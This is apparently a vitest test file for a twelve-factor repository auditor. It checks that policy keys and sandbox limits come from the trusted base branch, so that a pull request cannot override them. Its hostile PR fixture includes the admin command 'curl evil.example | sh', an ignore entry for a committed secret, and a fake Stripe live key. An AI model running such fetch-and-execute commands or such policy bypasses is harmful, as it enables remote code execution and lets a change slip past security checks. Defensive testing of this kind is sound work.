import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError, parseConfig } from '../../../src/config/load';
import { applyPolicy } from '../../../src/config/policy';
import { exitCodeFor } from '../../../src/judge/exit-policy';
import { resolveConfig, runCommand } from '../../../src/pipeline/commands';

const BASE_CONFIG = 'run:\n  memory: 512m\n  replicas: 1\n';
const PR_CONFIG = [
  'ignore:',
  '  - { check: config/committed-secrets, reason: "." }',
  'fail-on: never',
  'run:',
  '  web: false',
  '  network: bridge',
  '  memory: 8g',
  '  pids: 4096',
  '  cpus: 4',
  '  replicas: 1',
  '  env: { GREETING: from-the-pr }',
  'admin:',
  '  - [sh, -c, "curl evil.example | sh"]',
  'services:',
  '  - { name: db, image: postgres:16, port: 5432, env: { DATABASE_URL: "postgres://u:hunter2@{host}:{port}/db" } }',
  '',
].join('\n');

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', '-c', 'commit.gpgsign=false', ...args], { cwd, encoding: 'utf8' }).trim();

/** A repository whose base commit has `base` as its config (or none) and whose working tree is the pull request. */
function pullRequest(base: string | undefined, pr: string): { dir: string; sha: string } {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'tfa-policy-'));
  // A committed Stripe live key: config/committed-secrets fails on it.
  writeFileSync(path.join(dir, 'settings.js'), "module.exports = { key: 'sk_live_51PolicyTestKeyAbCdEf0123456789' };\n");
  writeFileSync(path.join(dir, 'package.json'), '{"name":"x","version":"1.0.0"}\n');
  if (base !== undefined) writeFileSync(path.join(dir, '.twelve-factor.yml'), base);
  git(dir, 'init', '-q');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-q', '-m', 'base');
  const sha = git(dir, 'rev-parse', 'HEAD');
  writeFileSync(path.join(dir, '.twelve-factor.yml'), pr);
  return { dir, sha };
}

describe('sandbox limits have hard caps the config cannot lift', () => {
  it.each([
    ['run:\n  memory: "0"\n', /run\.memory: between 32m and 8g \(0, which Docker reads as unlimited, is not allowed\)/],
    ['run:\n  memory: 64g\n', /run\.memory: between 32m and 8g/],
    ['run:\n  pids: 65536\n', /run\.pids: .*4096/],
    ['run:\n  cpus: 16\n', /run\.cpus: .*4/],
    ['run:\n  cpus: 0\n', /run\.cpus/],
  ])('%j is refused', (text, message) => {
    expect(() => parseConfig(text)).toThrow(ConfigError);
    expect(() => parseConfig(text)).toThrow(message);
  });
});

describe('policy keys come from the trusted side', () => {
  it('applyPolicy takes every policy key from the trusted config and lists what the pull request asked for', () => {
    const { config, changes } = applyPolicy(parseConfig(PR_CONFIG), parseConfig(BASE_CONFIG));
    expect(config.ignore).toEqual([]);
    expect(config['fail-on']).toBe('fail');
    expect(config.run.web).toBeUndefined();
    expect(config.run).toMatchObject({ network: 'internal', memory: '512m', pids: 512, cpus: 1 });
    expect(config.admin).toEqual([]);
    expect(config.services).toEqual([]);
    // What the pull request is about stays its own.
    expect(config.run.env).toEqual({ GREETING: 'from-the-pr' });
    expect(changes.map((c) => c.key)).toEqual(['ignore', 'fail-on', 'run.web', 'run.network', 'run.memory', 'run.cpus', 'run.pids', 'admin', 'services']);
    expect(changes.find((c) => c.key === 'ignore')).toEqual({ key: 'ignore', applied: '(none)', requested: 'config/committed-secrets (".")' });
    // Service env values hold credentials: a change names the variable, never its value.
    expect(JSON.stringify(changes)).not.toContain('hunter2');
    expect(changes.find((c) => c.key === 'services')?.requested).toBe('db (postgres:16; env DATABASE_URL)');
  });

  it('a pull request that ignores a committed secret with reason "." and sets fail-on: never still fails', async () => {
    const { dir, sha } = pullRequest(BASE_CONFIG, PR_CONFIG);
    const { report, config } = await runCommand({ command: 'audit', repoRoot: dir, artifacts: path.join(dir, '..', `${path.basename(dir)}-out`), policyFrom: { rev: sha, label: 'the base branch main' } });
    const secrets = report!.factors.flatMap((f) => f.findings).filter((f) => f.check === 'config/committed-secrets');
    expect(secrets.some((f) => f.outcome === 'fail')).toBe(true);
    expect(report!.ignored).toEqual([]);
    expect(config['fail-on']).toBe('fail');
    expect(exitCodeFor(report!, config['fail-on'])).toBe(1);
    expect(report!.policy?.source).toBe(`the base branch main's .twelve-factor.yml (${sha.slice(0, 12)})`);
    expect(report!.policy?.changes.map((c) => c.key)).toContain('ignore');
  });

  it('a base branch without a config gives the defaults; an unreadable or invalid one too, with a diagnostic', () => {
    const none = pullRequest(undefined, PR_CONFIG);
    const r1 = resolveConfig({ command: 'audit', repoRoot: none.dir, policyFrom: { rev: none.sha, label: 'the base branch main' } });
    expect(r1.config['fail-on']).toBe('fail');
    expect(r1.policy?.source).toMatch(/which has no \.twelve-factor\.yml: the defaults/);
    expect(r1.diagnostics).toEqual([]);

    const invalid = pullRequest('run:\n  memory: lots\n', PR_CONFIG);
    const r2 = resolveConfig({ command: 'audit', repoRoot: invalid.dir, policyFrom: { rev: invalid.sha, label: 'the base branch main' } });
    expect(r2.config.run.network).toBe('internal');
    expect(r2.diagnostics[0]?.message).toMatch(/the policy comes from the defaults: the base branch main:\.twelve-factor\.yml:2:\d+: run\.memory/);

    const missing = pullRequest(BASE_CONFIG, PR_CONFIG);
    const r3 = resolveConfig({ command: 'audit', repoRoot: missing.dir, policyFrom: { rev: 'f'.repeat(40), label: 'the base branch main' } });
    expect(r3.config.ignore).toEqual([]);
    expect(r3.diagnostics[0]?.message).toMatch(/could not be read \(commit f{40} is not in the checkout and could not be fetched/);
  });

  it('the action input fail-on wins over both configs', () => {
    const { dir, sha } = pullRequest('fail-on: warn\n', PR_CONFIG);
    expect(resolveConfig({ command: 'audit', repoRoot: dir, policyFrom: { rev: sha, label: 'base' } }).config['fail-on']).toBe('warn');
    expect(resolveConfig({ command: 'audit', repoRoot: dir, policyFrom: { rev: sha, label: 'base' }, failOn: 'regression' }).config['fail-on']).toBe('regression');
  });

  it('a base config committed as a symlink is not followed: the defaults decide, with a diagnostic', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'tfa-policy-link-'));
    mkdirSync(path.join(dir, 'elsewhere'));
    writeFileSync(path.join(dir, 'elsewhere', 'c.yml'), 'fail-on: never\n');
    execFileSync('ln', ['-s', 'elsewhere/c.yml', path.join(dir, '.twelve-factor.yml')]);
    git(dir, 'init', '-q');
    git(dir, 'add', '-A');
    git(dir, 'commit', '-q', '-m', 'base');
    const sha = git(dir, 'rev-parse', 'HEAD');
    execFileSync('rm', [path.join(dir, '.twelve-factor.yml')]);
    writeFileSync(path.join(dir, '.twelve-factor.yml'), PR_CONFIG);
    const r = resolveConfig({ command: 'audit', repoRoot: dir, policyFrom: { rev: sha, label: 'base' } });
    expect(r.config['fail-on']).toBe('fail');
    expect(r.diagnostics[0]?.message).toMatch(/is not a regular file \(mode 120000\)/);
  });
});
